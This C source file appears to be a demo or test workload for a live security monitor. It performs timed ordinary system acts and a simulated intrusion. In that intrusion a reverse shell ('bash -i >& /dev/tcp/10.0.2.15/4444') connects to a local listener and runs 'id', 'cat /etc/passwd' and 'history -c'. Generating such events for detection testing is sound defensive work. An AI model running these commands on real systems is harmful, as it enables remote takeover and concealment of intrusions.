/*
 * A sequence of ordinary and of hostile acts for people who watch live: all of them, timed, or one
 * at a time for a test that waits until each was seen.
 */
#include "workload.h"

#include <arpa/inet.h>
#include <pthread.h>
#include <semaphore.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

#define PORT 4444

/* The visitor's acts; each is one signal. */
enum visit {
	THREAD_BEGINS,
	THREAD_ENDS,
	OPEN,
	MAP,
	UNMAP,
	MAKE_EXECUTABLE,
	MAKE_READABLE,
	EXECUTABLE_AGAIN,
	CONNECT,
	DISCONNECT,
	ZOMBIE,
	REAP,
	VISITS,
};

static pid_t visitor_pid, shell_pid, program_pid;
static int peer = -1, listener = -1, program_input = -1;
/* Posted to end the visitor's thread. */
static sem_t thread_over;

/* Announces the next act at once, with the guest's time. */
static void say(const char *what)
{
	struct timespec now;
	struct tm parts;
	char time[32];

	clock_gettime(CLOCK_REALTIME, &now);
	gmtime_r(&now.tv_sec, &parts);
	strftime(time, sizeof(time), "%H:%M:%S", &parts);
	out_say("%s.%03ld %s", time, now.tv_nsec / 1000000, what);
	out_flush();
}

static void *guide(void *unused)
{
	prctl(PR_SET_NAME, "tour-thread");
	while (sem_wait(&thread_over) != 0)
		;
	return unused;
}

/* The process that performs the tour; each signal is one act. */
static void visitor(void *unused)
{
	static void *file, *area;
	static int fd = -1, client = -1, server = -1;
	pthread_t thread;
	sigset_t visits;
	int signal_number;
	char byte;

	(void)unused;
	sem_init(&thread_over, 0, 0);
	sigemptyset(&visits);
	for (int i = 0; i < VISITS; i++)
		sigaddset(&visits, SIGRTMIN + i);
	sigprocmask(SIG_BLOCK, &visits, NULL);
	workload_settled();
	while (sigwait(&visits, &signal_number) == 0) {
		switch ((enum visit)(signal_number - SIGRTMIN)) {
		case THREAD_BEGINS:
			if (pthread_create(&thread, NULL, guide, NULL) == 0)
				pthread_detach(thread);
			break;
		case THREAD_ENDS:
			sem_post(&thread_over);
			break;
		case OPEN:
			fd = open("/tmp/tour-file", O_RDWR | O_CREAT | O_TRUNC, 0644);
			if (ftruncate(fd, 8192) != 0)
				return;
			break;
		case MAP:
			file = mmap(NULL, 8192, PROT_READ, MAP_PRIVATE, fd, 0);
			break;
		case UNMAP:
			munmap(file, 8192);
			close(fd);
			break;
		case MAKE_EXECUTABLE:
			area = mmap(NULL, 16384, PROT_READ | PROT_WRITE | PROT_EXEC,
				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (area != MAP_FAILED)
				*(char *)area = 1;
			break;
		case MAKE_READABLE:
			mprotect(area, 16384, PROT_READ);
			break;
		case EXECUTABLE_AGAIN:
			mprotect(area, 16384, PROT_READ | PROT_EXEC);
			break;
		case CONNECT:
			if (!tcp_pair(AF_INET, &client, &server))
				return;
			break;
		case DISCONNECT:
			close(client);
			/* If both ends closed at once, both would be in TIME_WAIT. */
			while (read(server, &byte, 1) > 0)
				;
			close(server);
			break;
		case ZOMBIE:
			if (fork() == 0) {
				prctl(PR_SET_NAME, "tour-zombie");
				_exit(0);
			}
			break;
		default:
			while (waitpid(-1, NULL, WNOHANG) > 0)
				;
		}
	}
}

static const char *begin(void)
{
	visitor_pid = workload_start("tour", visitor, NULL);
	return visitor_pid < 0 ? "the tour's process died" : NULL;
}

static const char *end(void)
{
	workload_end(visitor_pid);
	return NULL;
}

/* A program that runs until its input ends. */
static const char *program(void)
{
	int ends[2];

	if (pipe2(ends, O_CLOEXEC) != 0)
		return strerror(errno);
	program_pid = fork();
	if (program_pid == 0) {
		dup2(ends[0], 0);
		execl("/bin/bash", "bash", "-c", "cat; echo done > /dev/null", NULL);
		_exit(127);
	}
	close(ends[0]);
	program_input = ends[1];
	return NULL;
}

static const char *program_ends(void)
{
	close(program_input);
	waitpid(program_pid, NULL, 0);
	return NULL;
}

static const char *attacker_listens(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	int yes = 1;

	inet_pton(AF_INET, "10.0.2.15", &at.sin_addr);
	listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	if (bind(listener, (void *)&at, sizeof(at)) != 0 || listen(listener, 1) != 0)
		out_say("note: cannot listen on port %d: %s", PORT, strerror(errno));
	return NULL;
}

static const char *command(const char *text)
{
	if (peer >= 0 && write(peer, text, strlen(text)) < 0)
		out_say("note: the shell is gone: %s", strerror(errno));
	return NULL;
}

static const char *reverse_shell(void)
{
	shell_pid = fork();
	if (shell_pid == 0) {
		setpgid(0, 0);
		execl("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.2.15/4444 0>&1", NULL);
		_exit(127);
	}
	peer = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	return NULL;
}

static const char *attacker_looks(void)
{
	return command("id\ncat /etc/passwd > /dev/null\n");
}

static const char *attacker_clears(void)
{
	return command("history -c\n");
}

static const char *attacker_leaves(void)
{
	command("exit\n");
	/* It writes its history before it ends. */
	waitpid(shell_pid, NULL, 0);
	close(peer);
	close(listener);
	return NULL;
}

static const struct act {
	/* `tour WORD` performs only this act. */
	const char *word;
	const char *what;
	/* An act is a function, or else a signal to the visitor. */
	const char *(*run)(void);
	enum visit visit;
	/* The pause after the act, in milliseconds. */
	unsigned rest;
} acts[] = {
	{ "begin", "a process begins", begin, VISITS, 2000 },
	{ "thread", "a thread begins", NULL, THREAD_BEGINS, 2000 },
	{ "thread-ends", "the thread ends", NULL, THREAD_ENDS, 1000 },
	{ "open", "a file is opened: /tmp/tour-file", NULL, OPEN, 2000 },
	{ "map", "the file is mapped", NULL, MAP, 2000 },
	{ "unmap", "the file is unmapped and closed", NULL, UNMAP, 2000 },
	{ "make-executable", "anonymous memory becomes writable and executable", NULL, MAKE_EXECUTABLE,
	  2500 },
	{ "make-readable", "that memory loses write and execute", NULL, MAKE_READABLE, 1000 },
	{ "executable-again", "that memory can be executed again", NULL, EXECUTABLE_AGAIN, 1000 },
	{ "connect", "a connection is made, 127.0.0.1 to itself", NULL, CONNECT, 2500 },
	{ "disconnect", "the connection is closed", NULL, DISCONNECT, 2000 },
	{ "zombie", "a child ends and is not reaped: a zombie", NULL, ZOMBIE, 3000 },
	{ "reap", "the zombie is gone", NULL, REAP, 1500 },
	{ "program", "a shell command: bash -c", program, VISITS, 2000 },
	{ "program-ends", "the command ends", program_ends, VISITS, 1000 },
	{ "listen", "an attacker listens on 10.0.2.15:4444", attacker_listens, VISITS, 500 },
	{ "reverse-shell", "a reverse shell: bash -i with its descriptors on 10.0.2.15:4444",
	  reverse_shell, VISITS, 3000 },
	{ "look", "the attacker types: id; cat /etc/passwd", attacker_looks, VISITS, 3000 },
	{ "clear", "the attacker clears the history: history -c", attacker_clears, VISITS, 2000 },
	{ "leave", "the attacker leaves", attacker_leaves, VISITS, 1000 },
	{ "end", "the process ends", end, VISITS, 1000 },
};

/* Whether the visitor waits for its next signal: it sleeps, and no signal is pending. */
static bool visitor_rests(void)
{
	char path[64], line[128];
	bool sleeps = false, pending = true;
	FILE *status;

	snprintf(path, sizeof(path), "/proc/%d/status", visitor_pid);
	status = fopen(path, "r");
	if (!status)
		return true;
	while (fgets(line, sizeof(line), status)) {
		if (strncmp(line, "State:", 6) == 0)
			sleeps = strstr(line, "S (sleeping)") != NULL;
		else if (strncmp(line, "ShdPnd:", 7) == 0)
			pending = strspn(line + 7, "\t 0\n") != strlen(line + 7);
	}
	fclose(status);
	return sleeps && !pending;
}

/* Performs an act, and waits until it is done, for a minute at most. */
static const char *perform(const struct act *act)
{
	say(act->what);
	if (act->run)
		return act->run();
	kill(visitor_pid, SIGRTMIN + (int)act->visit);
	for (int tries = 0; tries < 60000 && !visitor_rests(); tries++)
		usleep(1000);
	return NULL;
}

const char *tour(const char *arguments)
{
	bool all = arguments[0] == '\0', found = false;

	for (size_t i = 0; i < sizeof(acts) / sizeof(*acts); i++) {
		const char *wrong;

		if (!all && strcmp(acts[i].word, arguments) != 0)
			continue;
		found = true;
		wrong = perform(&acts[i]);
		if (wrong)
			return wrong;
		if (all)
			usleep(acts[i].rest * 1000);
	}
	return found ? NULL : "no act of the tour has this name";
}
